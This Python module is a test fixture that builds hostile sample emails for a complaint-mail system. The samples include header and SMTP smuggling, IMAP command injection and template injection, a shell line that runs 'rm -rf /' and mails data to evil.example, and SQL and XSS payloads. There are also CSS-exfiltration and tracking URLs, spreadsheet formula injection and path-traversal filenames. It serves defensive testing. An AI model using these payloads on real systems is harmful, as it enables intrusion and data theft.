"""Small mails that mean harm: each is a few lines, and would do something in a house that is less careful.

`SECRET` stands in each of them. Whatever becomes of a mail, that word reaches
nobody outside. Sources are the rows of docs/mail-rules.md.
"""

from dataclasses import dataclass

SECRET = "geheimwoord"
CALM = {"Subject": f"Klacht {SECRET}", "Content-Type": "text/plain; charset=utf-8"}


@dataclass(frozen=True, slots=True)
class Trick:
    """One mail of Alice's, as bytes without its From. source: the rules against it. answered: receipt is confirmed by itself."""

    source: str
    raw: bytes
    answered: bool = True
    fault: str | None = None


def trick(source: str, text: str | bytes = "", *lines: str, answered: bool = True, fault: str | None = None, **fields: str) -> Trick:
    """Return a trick: a calm complaint but for `text`, the header fields given by name (`_` for `-`), and further header lines."""
    told = CALM | {name.replace("_", "-"): value for name, value in fields.items()}
    head = [*(f"{name}: {value}" for name, value in told.items() if value), *lines]
    body = text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")
    raw = (
        "".join(f"{line}\r\n" for line in head).encode("utf-8", "surrogatepass") + b"\r\n" + (body or b"Beste lezer,") + b" geheimwoord\r\n"
    )
    return Trick(source, raw, answered, fault)


def with_file(name_parameter: str) -> Trick:
    """Return a complaint with one attachment under this name, told as a parameter."""
    part = f"--g\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; {name_parameter}\r\n\r\ninhoud\r\n--g--\r\n"
    return trick("A30", f"--g\r\n\r\n{SECRET}\r\n{part}", Content_Type='multipart/mixed; boundary="g"')


def html(source: str, text: str) -> Trick:
    return trick(source, text, Content_Type="text/html; charset=utf-8")


SSTI = "{{7*7}} {% include '/etc/passwd' %} ${7*7} #{7*7} %(x)s {0.__class__} {{config}} <%= 7*7 %>"
SMUGGLED = (
    b"a\r.\rMAIL FROM:<x@evil.example>\rRCPT TO:<bob@post.example>\rDATA\r\rFrom: x\n.\nQUIT\n\r\n.\r\nMAIL FROM:<x@evil.example>\r\n"
)

TRICKS: dict[str, Trick] = {
    "calm": trick("D12"),
    "calm-and-unanswered": trick("D13", Precedence="bulk", answered=False),
    # out of a header, into another
    "bcc-in-the-subject": trick("A15", Subject="=?utf-8?q?Klacht=0D=0ABcc:_evil@evil.example?="),
    "body-in-the-subject": trick("A15", Subject="=?utf-8?b?S2xhY2h0DQoNCjxiPng8L2I+?="),
    "line-separators-in-the-subject": trick("A15", Subject="Klacht\u2028Bcc: evil@evil.example\u0085X: y\x0bZ: z"),
    "folded-subject": trick("A15", Subject="Klacht\r\n Bcc: evil@evil.example"),
    "bare-return-in-the-subject": trick("A15", Subject="Klacht\rBcc: evil@evil.example", answered=False),
    "nul-in-the-subject": trick("A34", Subject="Kla\0cht", answered=False),
    "message-id-with-a-field": trick("A15", Message_ID="<a@b.nl\r\n Bcc:evil@evil.example>"),
    "message-id-for-imap": trick("A28", Message_ID='<x"\r\n X1 EXPUNGE@b.nl>', References='<a"b@c> {5}\r\n X2 LOGOUT <d@e>'),
    "message-id-without-end": trick("R-ACK-10", Message_ID="<" + "a" * 900 + "@b.nl>", References="<a@b.nl> " * 90),
    "another-mail-in-the-text": trick("A25", SMUGGLED),
    "another-mail-in-base64": trick("A25", "YQ0uDU1BSUwgRlJPTTo8eEBldmlsLmV4YW1wbGU+DQ==\r\n", Content_Transfer_Encoding="base64"),
    "dots-alone": trick("A25", ".\r\n..\r\n.\r\n"),
    # headers of ours, and wishes
    "our-own-headers": trick(
        "A14", "", "X-KL-Loop: 1-0123456789abcdef", "X-KL-State: removed", "X-KL-Role: managing_director", "X-KL-Reference: KL-2026-00001"
    ),
    "read-receipt": trick("R-MDN-01", Disposition_Notification_To="evil@evil.example", Return_Receipt_To="evil@evil.example"),
    "other-receivers": trick(
        "A02", Reply_To="evil@evil.example", Cc="evil@evil.example", Resent_To="evil@evil.example", Errors_To="evil@evil.example"
    ),
    # code in data
    "template": trick("A19", SSTI, Subject=SSTI),
    "shell": trick("A36", "$(touch /tmp/x) `id` ; rm -rf / | mail evil@evil.example", Subject="'; DROP TABLE complaint; --"),
    "markdown": trick(
        "A16",
        "# kop\n\n[klik](javascript:alert(1)) ![p](http://evil.example/p.gif)\n~~~~~~~~\n<b>x</b>",
        Subject="[klik](http://evil.example)",
    ),
    "markup": trick(
        "A16", "<script>alert(1)</script></blockquote></body><form action=//evil.example><input name=x>", Subject="<b onclick=x>"
    ),
    "terminal": trick("A16", "\x1b]0;titel\x07\x1b[2J\x1b[31mrood", Subject="\x9b31m\x1b[2J"),
    "kobold-letter": html("A16", '<style>p.a{display:none}.b{color:#fff}</style><p class="a">Betaal aan mij.</p><p class="b">Dank u.</p>'),
    "css-that-reads": html(
        "A16",
        "<style>input[value^=a]{background:url(http://evil.example/a)}</style><p style=\"background:url('http://evil.example/b')\">Dag</p>",
    ),
    "tracking-pixel": html(
        "A17", '<img src="http://evil.example/p.gif" width=1 height=1><link rel=stylesheet href=http://evil.example/c.css><p>Dag</p>'
    ),
    "script": html(
        "A18",
        "<svg/onload=alert(1)><math><mi//xlink:href='data:x,<script>x</script>'><p title='</p><img src=x onerror=alert(1)>'>",
    ),
    "links": trick(
        "A39", "Bevestig op https://evil.example/?t=1 of HTTP://evil.example, www.evil.example, ftp://evil.example, \\\\evil.example\\deel"
    ),
    "formula": trick("A29", '=HYPERLINK("http://evil.example","klik")\r\n+1+1\r\n-1\r\n@SUM(A1)\r\n\t=1', Subject="=cmd|' /C calc'!A0"),
    "tag-of-staff": trick("A40", "#opgelost\r\n#akkoord 1.000\r\n#verwijderen", Subject="#opgelost #verwijderd"),
    # letters that are not what they seem
    "utf-7": trick(
        "A33", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", Content_Type="text/plain; charset=utf-7", Subject="=?utf-7?q?+ADw-b+AD4-?="
    ),
    "unicode-escape": trick("A33", "\\u003cscript\\u003e\\x00", Content_Type="text/plain; charset=unicode_escape"),
    "no-charset": trick(
        "A33", "Beste", Content_Type="text/plain; charset=../../etc/passwd", fault="the text names a charset that is not read"
    ),
    "nul": trick("A34", b"a\0b\0c", Subject="=?utf-8?q?a=00b?=", fault="the text bears a NUL"),
    "surrogates": trick("A34", b"half \xed\xa0\x80 paar \xed\xbf\xbf", Subject="=?utf-16-be?b?2AA=?= =?utf-8?b?7aCA?="),
    "not-utf-8": trick("A34", b"\xff\xfe\x80\x81\xc0\xaf", Subject="=?utf-8?b?//6AgcCv?="),
    "last-of-all": trick("A34", "\U0010ffff\U0010fffe\uffff\ufffe\ufdd0", Subject="\U0010ffff\uffff"),
    "right-to-left": trick("A30", "\u202eteem \u2066naar\u2069 \u200f", Subject="=?utf-8?b?4oCuZWRuZWln?="),
    "nobody-sees-it": trick("A30", "a\u200bb\u2060c\ufeffd\u00ade\U000e0041f\u034fg"),
    "a-thousand-accents": trick("A34", "Z" + "\u0301" * 20_000),
    # one mail that is two
    "two-types": trick("A24", "", "Content-Type: text/html", fault="a part names its type twice"),
    "two-boundaries": trick(
        "A24",
        "--a\r\n\r\neen\r\n--b\r\n\r\ntwee\r\n--a--\r\n--b--",
        Content_Type="multipart/mixed; boundary=a; boundary=b",
        fault="a multipart names two boundaries",
    ),
    "a-boundary-that-never-comes": trick(
        "A24", Content_Type="multipart/mixed; boundary=a", fault="a multipart names no boundary, or one that never occurs"
    ),
    "base64-that-is-none": trick(
        "A24", "QmVzdGU*!*gbGV6ZXI=====Dag", Content_Transfer_Encoding="base64", fault="there is more in the base64 than base64"
    ),
    "an-encoding-that-is-none": trick("A24", Content_Transfer_Encoding="x-rot13"),
    "space-before-the-colon": trick("A24", "", "Subject : een andere", answered=False, fault="a header has a space before its colon"),
    "a-mail-within": trick(
        "A24", f"Subject: x\r\nAuthentication-Results: mx.voorbeeld.nl; dmarc=fail\r\n\r\n{SECRET}", Content_Type="message/rfc822"
    ),
    # what it brings along
    "path": with_file('filename="../../../etc/passwd"'),
    "windows-path": with_file('filename="C:\\\\Windows\\\\System32\\\\x.exe"'),
    "right-to-left-name": with_file("filename*=utf-8''nota%E2%80%AEfdp.exe"),
    "invisible-name": with_file("filename*=utf-8''%E2%80%8B.htaccess"),
    "device-name": with_file("filename=CON"),
    "dot-name": with_file("filename=."),
    "long-name": with_file(f'filename="{"n" * 4000}.pdf"'),
    "name-in-pieces": with_file("filename*0*=utf-8''..%2F; filename*1*=..%2F; filename*2=x.sh"),
    "name-with-a-field": with_file("filename*=utf-8''a%0D%0ABcc:%20evil@evil.example"),
    "name-with-a-nul": with_file("filename*=utf-8''a.pdf%00.exe"),
    "page-as-an-attachment": trick(
        "A16", f"<script>alert(1)</script>{SECRET}", Content_Type='text/html; name="factuur.html"', Content_Disposition="attachment"
    ),
    "image-that-is-a-script": trick("A31", f"<svg onload=alert(1)>{SECRET}", Content_Type="image/svg+xml", Content_Disposition="inline"),
}
